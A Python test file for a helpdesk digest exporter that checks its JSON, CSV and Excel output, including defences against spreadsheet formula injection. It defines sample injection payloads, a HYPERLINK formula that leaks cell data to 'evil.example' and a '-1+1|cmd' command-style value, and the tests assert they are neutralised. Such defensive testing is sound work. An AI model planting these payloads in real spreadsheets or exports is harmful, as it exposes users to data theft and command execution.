"""A digest for programs and spreadsheets: JSON as documented, no text that turns into a formula."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime
from pathlib import Path

import msgspec
import openpyxl
import pytest
from desks import rulebook
from msgspec.structs import replace
from reported import BROWSE, FORWARDED, REQUEST, VERDICTS, at, digested, reported, said, ticket

from bot.core.audience import Audience
from bot.core.kpi.fact import Fact
from bot.report import csv_rows, records
from bot.report.digest import Digest, Target
from bot.report.render import render
from bot.report.report import Trouble
from bot.report.words import words_of

DOCS = Path(__file__).resolve().parents[2] / "docs" / "digest.md"
EVIL = '=HYPERLINK("http://evil.example"&A1)'
FACTS = (
    Fact("first_deadline", "KKA-3", 1, queue="L2_IT", marks=("extended",)),
    Fact("first_deadline", "KKA-4", 0, queue="L2_IT"),
    Fact("first_deadline", "KKA-5", 0, excluded="no answer", queue="L2_IT"),
    Fact("handoff_wait", "KKA-3", 5400, group="L2_IT", queue="L2_IT"),
    Fact("categories", "KKA-3", 1, group=EVIL, queue="L2_IT"),
)


@pytest.fixture(scope="module")
def digest() -> Digest:
    tickets = [ticket(3, FORWARDED, owner=None), ticket(6, **REQUEST, fields={"registered": "2026-12-04"})]
    report = reported(*tickets, verdicts=VERDICTS, ledger=[said("a", "3", "2026-12-16 10:00")])
    report = replace(report, facts=FACTS, troubles=(Trouble("KKA-9", "-1+1|cmd"),))
    found = digested(report)
    (k1,) = (each for each in found.figures if each.figure.indicator == "first_deadline")
    figures = tuple(
        replace(each, target=Target("at least", 0.85), met=False) if each == k1 else each for each in found.figures
    )
    return replace(found, figures=figures)


def written(digest: Digest, form: str, language: str = "et") -> bytes:
    return render(digest, form, language, rulebook(), BROWSE)


def test_the_json_holds_what_the_digest_shows(digest):
    found = msgspec.json.decode(written(digest, "json"), type=records.DigestRecord)
    assert (found.format, found.version, found.desk, found.language) == ("piletibot digest", 1, "prove", "et")
    assert (found.as_of, found.period.kind, found.period.is_over) == ("2026-12-16T10:00:00Z", "day", False)
    assert [(each.group, [task.ticket for task in each.tickets]) for each in found.today] == [
        ("burns", ["KKA-6", "KKA-3"]),
        ("soon", []),
        ("decide", []),
    ]
    k1 = next(each for each in found.indicators if each.indicator == "first_deadline")
    (figure,) = k1.figures
    assert (figure.value, figure.numerator, figure.denominator, figure.unit) == (0.5, 1, 2, "share")
    assert (figure.excluded, figure.marks) == ({"no answer": 1}, {"extended": 1})
    assert figure.target == records.TargetRecord("at least", 0.85, met=False)
    assert k1.definition
    waiting = next(each for each in found.indicators if each.indicator == "handoff_wait").figures[-1]
    assert (waiting.group, waiting.value, waiting.unit) == ("L2_IT", 5400, "working seconds")
    assert {row.ticket for row in found.tickets["overdue"]} == {"KKA-3"}
    assert [(owed.ticket, owed.due_at) for owed in found.statutory] == [("KKA-6", "2026-12-11T22:00:00Z")]


def test_figures_that_were_kept_tell_as_of_when_they_are(digest):
    report = replace(digest.report, kept_at=at("2026-12-16 08:00"), kept_version="older")
    found = json.loads(written(replace(digest, report=report), "json"))
    assert (found["as_of"], found["figures_as_of"]) == ("2026-12-16T10:00:00Z", "2026-12-16T06:00:00Z")
    assert (found["rulebook"], found["figures_rulebook"]) == (rulebook().version, "older")


def fields(kind: type) -> dict[str, list[str]]:
    """The fields of a record and of all records in it, by the record's name."""
    found: dict[str, list[str]] = {}
    schema = msgspec.json.schema(kind)
    for name, each in schema["$defs"].items():
        found[name] = list(each.get("properties", ()))
    return found


def test_every_field_is_documented():
    text = DOCS.read_text("utf-8")
    missing = [
        f"{name}.{field}" for name, those in fields(records.DigestRecord).items() for field in those
        if f"`{field}`" not in text
    ]  # fmt: skip
    assert missing == []
    assert [column for column in csv_rows.HEAD if f"`{column}`" not in text] == []
    assert f"version {records.VERSION}" in text.casefold()


@pytest.mark.parametrize("form", ["json", "csv", "xlsx"])
def test_no_person_and_no_fact_is_written(digest, form):
    raw = written(digest, form)
    if form == "xlsx":
        raw = repr([[cell.value for cell in row] for sheet in sheets(digest).values() for row in sheet]).encode()
    assert not re.search(rb"it1|spetsialist1|\bfacts\b", raw)


def sheets(digest: Digest, language: str = "et") -> dict[str, openpyxl.worksheet.worksheet.Worksheet]:
    book = openpyxl.load_workbook(io.BytesIO(written(digest, "xlsx", language)))
    return {sheet.title: sheet for sheet in book.worksheets}


@pytest.mark.parametrize("language", ["et", "en", "ru"])
def test_the_workbook_has_a_sheet_for_each_question(digest, language):
    words, found = words_of(language), sheets(digest, language)
    titles = [words[word][:31].strip() for word in ("today", "figures", "tickets", "definitions", "quality")]
    assert list(found) == titles
    assert all(sheet.freeze_panes == "A2" for sheet in found.values())
    assert all(sheet.column_dimensions["A"].width >= 14 for sheet in found.values())


def test_numbers_are_numbers_and_are_shown_as_what_they_are(digest):
    sheet = sheets(digest)["Näitajad"]
    rows = {(row[0].value, row[1].value): row for row in sheet.iter_rows(min_row=2)}
    share = next(row for (_, group), row in rows.items() if row[9].value)
    assert [(cell.value, cell.number_format) for cell in share[3:6]] == [(0.5, "0.0%"), (1, "#,##0"), (2, "#,##0")]
    assert (share[9].value, share[10].value) == ("≥ 85,0%", "✗ täitmata")
    waits = next(row for (_, group), row in rows.items() if group == "IT-tugi (KEMIT)")
    assert (waits[2].value, waits[3].value, waits[3].number_format) == ("töötunnid", 1.5, "#,##0.0")


def test_moments_are_moments_of_the_desks_own_clock(digest):
    sheet = sheets(digest)["Piletid"]
    found = {(row[0].value, row[1].value): row for row in sheet.iter_rows(min_row=2)}
    owed = found[words_of("et")["statutory"], "KKA-6"]
    assert owed[4].value == datetime(2026, 12, 11, 23, 59, 59)
    assert owed[5].value < 0
    assert owed[1].hyperlink.target == f"{BROWSE}KKA-6"


def test_no_cell_begins_a_formula(digest):
    cells = [cell for sheet in sheets(digest).values() for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    evil = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "-1"))]
    assert {cell.value for cell in evil} == {EVIL, "-1+1|cmd"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in evil)


def csv_of(digest: Digest, language: str = "et") -> list[dict[str, str]]:
    raw = written(digest, "csv", language)
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_csv_has_a_row_for_each_figure_and_group(digest):
    found = {(row["indicator"], row["group"]): row for row in csv_of(digest)}
    assert len(found) == len(digest.figures)
    k1 = found["first_deadline", ""]
    assert (k1["value"], k1["target"], k1["target_met"]) == ("0,5", "0,85", "0")
    assert (k1["excluded"], k1["marks"]) == ("no answer: 1", "extended: 1")
    assert found["handoff_wait", "L2_IT"]["group_title"] == "IT-tugi (KEMIT)"
    assert {row["value"] for row in csv_of(digest, "en") if row["indicator"] == "first_deadline"} == {"0.5"}


def test_no_value_of_the_csv_begins_a_formula(digest):
    values = [value for row in csv_of(digest) for value in row.values()]
    assert f"'{EVIL}" in values
    assert [value for value in values if re.match(r"[=@\t\r]|[+-](?![\d.,]+$)", value)] == []


def test_outside_the_team_few_are_nowhere(digest):
    few = digested(digest.report, audience=Audience(team=False))
    assert all(each.figure.hidden for each in few.figures if each.figure.indicator == "first_deadline")
    for row in csv_of(few):
        if row["indicator"] == "first_deadline":
            assert (row["value"], row["denominator"], row["hidden"], row["excluded"]) == ("", "", "1", "")
    assert b"KKA-" not in written(few, "json") + written(few, "csv")
    cells = [str(cell.value) for sheet in sheets(few).values() for row in sheet.iter_rows() for cell in row]
    assert not any("KKA-" in cell for cell in cells)
    assert "ei näidata (väike arv)" in cells
